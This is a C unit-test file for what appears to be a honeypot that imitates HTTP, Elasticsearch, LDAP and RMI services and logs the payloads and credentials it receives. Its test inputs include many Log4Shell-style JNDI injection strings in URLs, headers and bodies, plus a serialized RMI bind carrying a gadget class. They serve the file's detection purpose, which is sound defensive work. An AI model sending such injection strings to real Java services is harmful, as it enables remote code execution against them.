/* What Java clients meet: http, ldap, rmi. Exchanges as real clients send them. */
#include "talk.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <cmocka.h>

#define S(lit) CT_STR(lit)

static void http_login(void **unused)
{
    (void)unused;
    struct talk *t = talk_open("http", NULL, false);
    talk_in(t, S("GET /?x=${jndi:ldap://a/b} HTTP/1.1\r\nHost: app:8080\r\nUser-Agent: curl/8\r\nX-Api: ${jndi:rmi://c/d}\r\n\r\n"));
    assert_true(talk_learnt(t, "method=GET") && talk_learnt(t, "path=/?x=${jndi:ldap://a/b}") && talk_learnt(t, "payload=/?x=${jndi:ldap://a/b}"));
    assert_true(talk_learnt(t, "host=app:8080") && talk_learnt(t, "client_software=curl/8") && talk_learnt(t, "payload=X-Api: ${jndi:rmi://c/d}"));
    assert_true(talk_said(t, S("HTTP/1.1 200 \r\nSet-Cookie: JSESSIONID=000102030405060708090A0B0C0D0E0F; Path=/; HttpOnly\r\n")));
    assert_true(talk_said(t, S("Date: Tue, 14 Nov 2023 22:13:20 GMT\r\n")));
    assert_null(strstr(t->sent, "${"));
    assert_false(t->closed);
    size_t before = t->sent_n;
    talk_in(t, S("POST /login HTTP/1.1\r\nContent-Length: 32\r\n\r\nusername=ad%6din&password=a+b%21"));
    assert_true(talk_learnt(t, "user=admin") && talk_learnt(t, "password=a b!") && talk_learnt(t, "payload=username=ad%6din&password=a+b%21"));
    assert_non_null(strstr(t->sent + before, "Wrong user name or password"));
    talk_free(t);
}

static void http_requests(void **unused)
{
    (void)unused;
    static const struct {
        int line;
        const char *in, *learnt, *said;
        bool closed;
    } rows[] = {
        {__LINE__, "GET /manager/html HTTP/1.1\r\nAuthorization: Basic dG9tY2F0OnMzY3JldA==\r\n\r\n", "password=s3cret", "HTTP/1.1 401 \r\nWWW-Authenticate: Basic", false},
        {__LINE__, "GET / HTTP/1.0\r\n\r\n", "method=GET", "Connection: close\r\n", true},
        {__LINE__, "GET / HTTP/1.0\nConnection: keep-alive\n\n", "path=/", "HTTP/1.1 200 \r\n", false},
        {__LINE__, "GET /none HTTP/1.1\r\n\r\n", "path=/none", "<h3>Apache Tomcat/", false},
        {__LINE__, "OPTIONS * HTTP/1.1\r\n\r\n", "method=OPTIONS", "Allow: GET, HEAD, POST, OPTIONS\r\n", false},
        {__LINE__, "BREW / HTTP/1.1\r\n\r\n", "method=BREW", "HTTP/1.1 405 \r\n", false},
        {__LINE__, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "method=PRI", "HTTP/1.1 505 \r\n", true},
        {__LINE__, "\r\nGET / HTTP/1.1\r\n\r\n", "method=GET", "HTTP/1.1 200 \r\n", false},
        {__LINE__, "nonsense ${jndi:x}\r\n", "first_bytes=nonsense ${jndi:x}\\x0d\\x0a", "HTTP/1.1 400 \r\n", true},
        {__LINE__, "\x16\x03\x01\x02\n", "first_bytes=\\x16\\x03\\x01\\x02\\x0a", "HTTP/1.1 400 \r\n", true},
        {__LINE__, "\x16\x03\x01\x02", "first_bytes=\\x16\\x03\\x01\\x02", "HTTP/1.1 400 \r\n", true},
        {__LINE__, "POST /x HTTP/1.1\r\nContent-Length: 1e9\r\n\r\n", "method=POST", "HTTP/1.1 400 \r\n", true},
        {__LINE__, "POST /x HTTP/1.1\r\nContent-Length: 99999999\r\n\r\nabc", "payload=abc", "HTTP/1.1 413 \r\n", true},
        {__LINE__, "POST /x HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\nabc", "payload=abc", "HTTP/1.1 400 \r\n", true},
        {__LINE__, "POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4\r\n${jn\r\n5;e=1\r\ndi:x}\r\n0\r\n\r\n", "payload=${jndi:x}", "404", false},
        {__LINE__, "POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4\r\n${jndi\r\n", "payload=4\\x0d\\x0a${jndi\\x0d\\x0a", "400", true},
        {__LINE__, "POST /api HTTP/1.1\r\nContent-Length: 35\r\nExpect: 100-continue\r\n\r\n{\"user\":\"u1\",\"password\":\"p1\",\"a\":1}", "password=p1", "HTTP/1.1 100 \r\n\r\n", false},
        {__LINE__, "GET /a?user=q&pass=w HTTP/1.1\r\n\r\n", "user=q", "404", false},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct talk *t = talk_open("http", NULL, false);
        talk_in(t, ct_str_from(rows[i].in));
        if (!talk_learnt(t, rows[i].learnt) || !talk_said(t, ct_str_from(rows[i].said)) || t->closed != rows[i].closed)
            fail_msg("row of line %d: closed %d", rows[i].line, t->closed);
        talk_free(t);
    }
}

static void http_head_has_no_body(void **unused)
{
    (void)unused;
    struct talk *t = talk_open("http", NULL, false);
    talk_in(t, S("HEAD / HTTP/1.1\r\n\r\n"));
    assert_true(ct_str_ends((ct_str){(const unsigned char *)t->sent, t->sent_n}, S("GMT\r\n\r\n")));
    assert_true(talk_said(t, S("Content-Length: ")) && !strstr(t->sent, "Content-Length: 0"));
    talk_free(t);
}

/* A client that closes before its request ends has said what it has said. */
static void http_cut_short(void **unused)
{
    (void)unused;
    struct talk *t = talk_open("http", NULL, false);
    talk_in(t, S("GET /${jndi:a} HTTP/1.1\r\nX: ${jndi:b}\r\nY: ${jn"));
    assert_int_equal(t->facts_n, 0);
    talk_end(t);
    assert_true(talk_learnt(t, "payload=/${jndi:a}") && talk_learnt(t, "payload=X: ${jndi:b}") && talk_learnt(t, "payload=Y: ${jn"));
    talk_free(t);
    t = talk_open("http", NULL, false);
    talk_in(t, S("POST /a HTTP/1.1\r\nContent-Length: 50\r\n\r\na=${jndi:c}"));
    talk_end(t);
    assert_true(talk_learnt(t, "payload=a=${jndi:c}"));
    talk_free(t);
}

/* Where pieces of a long body meet, the payload is whole in one of them; and heads beyond the buffer are refused, not lost. */
static void http_long(void **unused)
{
    (void)unused;
    static unsigned char body[100000];
    for (size_t where = 15000; where < 18000; where += 331) {
        struct talk *t = talk_open("http", NULL, false);
        memset(body, 'a', sizeof body);
        memcpy(body + where, "${jndi:ldap://h/x}", 18);
        talk_in(t, S("POST /x HTTP/1.1\r\nContent-Length: 100000\r\n\r\n"));
        talk_in(t, (ct_str){body, sizeof body});
        assert_non_null(strstr(t->facts, "${jndi:ldap://h/x}"));
        assert_true(talk_said(t, S("HTTP/1.1 404 \r\n")));
        assert_false(t->closed);
        talk_free(t);
    }
    struct talk *t = talk_open("http", NULL, false);
    talk_in(t, S("GET /${jndi:a} HTTP/1.1\r\nX: "));
    talk_in(t, (ct_str){body, sizeof body});
    assert_true(talk_learnt(t, "payload=/${jndi:a}") && t->closed && talk_said(t, S("HTTP/1.1 400 \r\n")));
    talk_free(t);
    t = talk_open("http", NULL, false);
    talk_in(t, S("GET / HTTP/1.1\r\n"));
    for (int i = 0; i < 200; i++) talk_in(t, S("A: b\r\n"));
    talk_in(t, S("Z: ${jndi:late}\r\n\r\n"));
    assert_true(t->closed && talk_said(t, S("HTTP/1.1 400 \r\n")) && strstr(t->facts, "${jndi:late}"));
    talk_free(t);
}

static void elasticsearch(void **unused)
{
    (void)unused;
    static const struct {
        const char *in, *learnt, *said;
        bool closed;
    } rows[] = {
        {"GET / HTTP/1.0\r\n\r\n", "path=/", "HTTP/1.0 200 OK\r\ncontent-type: application/json; charset=UTF-8\r\ncontent-length: ", true},
        {"GET /_cat/indices HTTP/1.1\r\n\r\n", "path=/_cat/indices", "HTTP/1.1 200 OK\r\ncontent-type: text/plain; charset=UTF-8\r\n", false},
        {"GET /_cluster/health?pretty HTTP/1.1\r\n\r\n", "method=GET", "\"status\":\"yellow\"", false},
        {"POST /a/_search HTTP/1.1\r\nContent-Length: 9\r\n\r\n${jndi:x}", "payload=${jndi:x}", "\"hits\":{\"total\":0", false},
        {"PUT /${jndi:y} HTTP/1.1\r\n\r\n", "payload=/${jndi:y}", "\"status\":404}", false},
        {"nonsense\r\n", "first_bytes=nonsense\\x0d\\x0a", "\"status\":400}", true},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct talk *t = talk_open("elasticsearch", NULL, false);
        talk_in(t, ct_str_from(rows[i].in));
        assert_true(talk_learnt(t, rows[i].learnt) && talk_said(t, ct_str_from(rows[i].said)) && t->closed == rows[i].closed && !strstr(t->sent, "${"));
        talk_free(t);
    }
}

/* What is repeated is a payload each time, and a fact once: facts have a cap, and a hundred logins in one head are none. */
static void http_repeats(void **unused)
{
    (void)unused;
    struct talk *t = talk_open("http", NULL, false);
    talk_in(t, S("GET / HTTP/1.1\r\n"));
    for (int i = 0; i < 99; i++) talk_in(t, S("Authorization: Basic dG9tY2F0OnMzY3JldA==\r\n"));
    talk_in(t, S("\r\n"));
    assert_true(talk_learnt(t, "password=s3cret") && talk_said(t, S("HTTP/1.1 200 ")));
    talk_free(t);
}

static const char BIND[] = "\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00";
/* What com.sun.jndi.ldap sends for a lookup of "canary-1", ManageReferral among its controls. */
static const char JAVA_SEARCH[] =
    "\x30\x4c\x02\x01\x02\x63\x28\x04\x08" "canary-1" "\x0a\x01\x00\x0a\x01\x03\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0b" "objectClass" "\x30\x00"
    "\xa0\x1d\x30\x1b\x04\x17" "2.16.840.1.113730.3.4.2" "\x01\x00";

static void ldap_callback(void **unused)
{
    (void)unused;
    struct talk *t = talk_open("ldap", NULL, false);
    talk_in(t, (ct_str){(const unsigned char *)BIND, sizeof BIND - 1});
    assert_true(talk_said(t, S("\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x00\x04\x00\x04\x00")));
    talk_in(t, (ct_str){(const unsigned char *)JAVA_SEARCH, sizeof JAVA_SEARCH - 1});
    assert_true(talk_learnt(t, "callback=canary-1") && talk_learnt(t, "method=search"));
    assert_true(talk_said(t, S("\x30\x0c\x02\x01\x02\x65\x07\x0a\x01\x20\x04\x00\x04\x00")));
    talk_free(t);
}

static void ldap_logins(void **unused)
{
    (void)unused;
    struct talk *t = talk_open("ldap", NULL, false);
    talk_in(t, S("\x30\x1e\x02\x01\x07\x60\x19\x02\x01\x03\x04\x0e" "cn=root,dc=a,b" "\x80\x04" "pass"));
    assert_true(talk_learnt(t, "user=cn=root,dc=a,b") && talk_learnt(t, "password=pass"));
    assert_true(talk_said(t, S("\x30\x0c\x02\x01\x07\x61\x07\x0a\x01\x31\x04\x00\x04\x00")));
    /* nmap's probe, and the length form that it and Java use */
    talk_in(t, S("\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x02\x04\x00\x80\x00"));
    assert_true(talk_said(t, S("\x30\x45\x02\x01\x01\x61\x40\x0a\x01\x02\x04\x00\x04\x39" "historical protocol")));
    talk_in(t, S("\x30\x84\x00\x00\x00\x1d\x02\x01\x03\x60\x84\x00\x00\x00\x14\x02\x01\x03\x04\x00\xa3\x0d\x04\x05" "PLAIN" "\x04\x04\x00" "a\x00" "b"));
    assert_true(talk_learnt(t, "user=a") && talk_learnt(t, "password=b") && talk_learnt(t, "command=PLAIN"));
    talk_in(t, S("\x30\x05\x02\x01\x04\x42\x00"));
    assert_true(t->closed);
    talk_free(t);
    t = talk_open("ldap", NULL, false);
    for (int i = 0; i < 32; i++) talk_in(t, S("\x30\x0e\x02\x01\x07\x60\x09\x02\x01\x03\x04\x01" "a" "\x80\x01" "p"));
    assert_true(t->closed);
    talk_free(t);
}

static void ldap_refuses(void **unused)
{
    (void)unused;
    static const ct_str bad[] = {CT_STR_INIT("GET / HTTP/1.0\r\n"), CT_STR_INIT("\x30\x80\x02"), CT_STR_INIT("\x30\x84\x7f\xff\xff\xff"), CT_STR_INIT("\x30\x03\x04\x01x"),
                                 CT_STR_INIT("\x30\x07\x02\x01\x01\x60\x02\x02\x05"), CT_STR_INIT("\x30\x0a\x02\x01\x01\x7f\x99\x05xxxx")};
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        struct talk *t = talk_open("ldap", NULL, false);
        talk_in(t, bad[i]);
        if (!t->closed) fail_msg("row %zu stays open", i);
        talk_free(t);
    }
}

#define JRMI "JRMI\x00\x02\x4b"
#define ENDPOINT "\x00\x09" "127.0.1.1\x00\x00\x00\x00"
#define CALL(op) "\x50\xac\xed\x00\x05\x77\x22\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0" op "\x44\x15\x4d\xc9\xd4\xe6\x3b\xdf"

static void rmi_lookup(void **unused)
{
    (void)unused;
    struct talk *t = talk_open("rmi", NULL, false);
    talk_in(t, S(JRMI));
    assert_true(talk_said(t, S("\x4e\x00\x09" "192.0.2.7\x00\x00\x9c\x40")));
    talk_in(t, S(ENDPOINT CALL("\x02") "\x74\x00\x06" "a/b${}"));
    assert_true(talk_learnt(t, "callback=a/b${}") && talk_learnt(t, "workstation=127.0.1.1"));
    assert_true(talk_said(t, S("java.rmi.NotBoundException")));
    talk_in(t, S("\x52"));
    assert_int_equal((unsigned char)t->sent[t->sent_n - 1], 0x53);
    assert_false(t->closed);
    talk_in(t, S(CALL("\x00") "\x74\x00\x01zsr\x00\x10gadget"));
    assert_true(t->closed && talk_learnt(t, "command=registry bind") && strstr(t->facts, "gadget"));
    talk_free(t);
    t = talk_open("rmi", NULL, false);
    talk_in(t, S("JRMX"));
    assert_true(t->closed && t->sent_n == 0);
    talk_free(t);
}

static void pieces(void **unused)
{
    (void)unused;
    struct rng r = rng_new("pieces");
    talk_same_in_pieces("http", NULL, S("GET /?a=b HTTP/1.1\r\nHost: x\r\nUser-Agent: y\r\n\r\nPOST /login HTTP/1.1\r\nContent-Length: 17\r\n\r\nuser=u&password=pPOST /j HTTP/1.1\r\n"
                                        "Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\nT: 1\r\n\r\nHEAD / HTTP/1.0\r\n\r\n"), &r);
    talk_same_in_pieces("ldap", NULL, S("\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00\x30\x26\x02\x01\x02\x63\x21\x04\x01" "x\x0a\x01\x00\x0a\x01\x03\x02\x01\x00"
                                        "\x02\x01\x00\x01\x01\x00\x87\x0b" "objectClass\x30\x00\x30\x05\x02\x01\x03\x42\x00"), &r);
    talk_same_in_pieces("rmi", NULL, S(JRMI ENDPOINT CALL("\x02") "\x74\x00\x03" "abc" "\x52" CALL("\x01") CALL("\x02") "\x74\x00\x03" "abc"), &r);
}

static void nonsense(void **unused)
{
    (void)unused;
    struct rng r = rng_new("nonsense");
    talk_nonsense("http", NULL, S("POST /login HTTP/1.1\r\nContent-Length: 17\r\nTransfer-Encoding: chunked\r\nAuthorization: Basic dG9t\r\n\r\n3\r\nabc\r\n0\r\n\r\n"), &r);
    talk_nonsense("ldap", NULL, (ct_str){(const unsigned char *)JAVA_SEARCH, sizeof JAVA_SEARCH - 1}, &r);
    talk_nonsense("rmi", NULL, S(JRMI ENDPOINT CALL("\x02") "\x74\x00\x03" "abc"), &r);
    talk_nonsense("raw", NULL, S("x"), &r);
}

static void raw_pieces(void **unused)
{
    (void)unused;
    ct_str text = S("some words, and ${jndi:ldap://a/b} in them");
    for (size_t size = 1; size < text.n; size++) {
        struct talk *t = talk_open("raw", NULL, false);
        for (size_t at = 0; at < text.n; at += size) talk_in(t, ct_str_slice(text, at, at + size));
        assert_non_null(strstr(t->facts, "${jndi:ldap://a/b}"));
        assert_true(t->sent_n == 0 && !t->closed && strncmp(t->facts, "first_bytes=s", 13) == 0);
        talk_free(t);
    }
    static unsigned char many[100000];
    struct talk *t = talk_open("raw", NULL, false);
    memset(many, 'x', sizeof many);
    talk_in(t, (ct_str){many, sizeof many});
    assert_true(t->facts_n < 90000);
    talk_free(t);
}

/* Decoys do not look alike, and each stays as it is. */
static void identity(void **unused)
{
    (void)unused;
    static struct ct_face_host a, b;
    static const struct {
        const char *fqdn, *name, *domain; /* null: any that is not empty */
    } rows[] = {{"Web3.Example.net", "web3", "example.net"}, {"web3", "web3", NULL}, {"", NULL, NULL}, {"localhost", NULL, NULL}, {"a$<b>.c", "a", "c"}, {"${x}.y", NULL, "y"}, {".", NULL, NULL},
                {"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.b", NULL, "b"}};
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        ct_face_host_default(&a);
        ct_face_host_default(&b);
        a.seed = b.seed = i;
        ct_face_host_be(&a, ct_str_from(rows[i].fqdn));
        ct_face_host_be(&b, ct_str_from(rows[i].fqdn));
        assert_true(ct_str_eq(a.name, b.name) && ct_str_eq(a.domain, b.domain) && ct_str_eq(a.realm, b.realm));
        assert_true(a.name.n > 0 && a.name.n < CT_FACE_NAME_MAX && a.domain.n > 0 && a.realm.n > 0);
        if (rows[i].name) assert_true(ct_str_eq(a.name, ct_str_from(rows[i].name)));
        if (rows[i].domain) assert_true(ct_str_eq(a.domain, ct_str_from(rows[i].domain)));
        struct talk *t = talk_open("smtp", &a, false);
        assert_null(strchr(t->sent, '$'));
        talk_free(t);
    }
    unsigned differ = 0;
    for (unsigned i = 0; i < 20; i++) {
        ct_face_host_default(&b);
        b.seed = i;
        ct_face_host_be(&b, S("x"));
        differ += !ct_str_eq(a.realm, b.realm);
    }
    assert_true(differ > 5);
}

static void guesses(void **unused)
{
    (void)unused;
    static const struct {
        int line;
        ct_str first;
        const char *now, *last; /* face, or null: wait */
    } rows[] = {
        {__LINE__, CT_STR_INIT("GET / HTTP/1.1\r\n"), "http", "http"}, {__LINE__, CT_STR_INIT("GE"), NULL, "raw"}, {__LINE__, CT_STR_INIT("GET "), NULL, "raw"},
        {__LINE__, CT_STR_INIT("GET http://x/ HTTP/1.1"), "http", "http"}, {__LINE__, CT_STR_INIT("JRMI\0\2K"), "rmi", "rmi"}, {__LINE__, CT_STR_INIT("J"), NULL, "raw"},
        {__LINE__, CT_STR_INIT("\x30\x0c\x02\x01\x01\x60\x07"), "ldap", "ldap"}, {__LINE__, CT_STR_INIT("\x30\x0c\x02"), NULL, "raw"},
        {__LINE__, CT_STR_INIT("\x30\x0c\x04"), "raw", "raw"}, {__LINE__, CT_STR_INIT("0123456"), "raw", "raw"}, {__LINE__, CT_STR_INIT("\0"), NULL, "raw"}, {__LINE__, CT_STR_INIT("\1"), "raw", "raw"}, {__LINE__, CT_STR_INIT(""), NULL, "raw"},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        const struct ct_face *now = ct_face_guess(rows[i].first, false), *last = ct_face_guess(rows[i].first, true);
        if ((now == NULL) != (rows[i].now == NULL) || (now && strcmp(now->name, rows[i].now) != 0) || strcmp(last->name, rows[i].last) != 0)
            fail_msg("row of line %d: %s, %s", rows[i].line, now ? now->name : "wait", last->name);
    }
}

static void table(void **unused)
{
    (void)unused;
    for (size_t i = 0; i < ct_n_faces; i++) {
        const struct ct_face *f = ct_faces[i];
        assert_ptr_equal(ct_face_by_name(ct_str_from(f->name)), f);
        assert_true(f->open && f->bytes && f->end && f->state_size <= CT_FACE_STATE_MAX);
        for (size_t k = 0; k < f->n_ports; k++) assert_ptr_equal(ct_face_for_port(f->ports[k]), f); /* no port has two */
    }
    assert_null(ct_face_for_port(9));
    assert_null(ct_face_by_name(S("gopher")));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(http_login), cmocka_unit_test(http_requests), cmocka_unit_test(http_head_has_no_body), cmocka_unit_test(http_cut_short), cmocka_unit_test(http_long), cmocka_unit_test(elasticsearch), cmocka_unit_test(http_repeats),
        cmocka_unit_test(ldap_callback), cmocka_unit_test(ldap_logins), cmocka_unit_test(ldap_refuses), cmocka_unit_test(rmi_lookup), cmocka_unit_test(pieces),
        cmocka_unit_test(nonsense), cmocka_unit_test(raw_pieces), cmocka_unit_test(identity), cmocka_unit_test(guesses), cmocka_unit_test(table),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
